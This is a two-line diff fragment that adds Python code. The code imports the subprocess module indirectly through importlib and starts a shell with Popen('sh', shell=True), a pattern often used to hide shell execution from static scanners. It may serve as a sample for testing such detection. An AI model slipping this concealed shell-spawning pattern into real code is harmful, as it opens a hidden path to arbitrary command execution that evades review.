@@ -1,0 +1,2 @@
+m = importlib.import_module("subprocess")
+m.Popen("sh", shell=True)
